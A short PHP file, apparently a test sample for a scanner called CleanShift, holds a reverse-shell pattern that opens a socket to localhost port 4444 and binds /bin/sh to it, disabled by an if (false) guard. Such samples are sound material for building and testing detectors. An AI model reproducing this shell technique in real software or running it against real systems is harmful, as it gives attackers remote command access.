<?php
// CleanShift test sample: the technique is real, the payload is harmless.
if (false) {
    $s = fsockopen('127.0.0.1', 4444);
    proc_open('/bin/sh', array($s, $s, $s), $pipes);
}
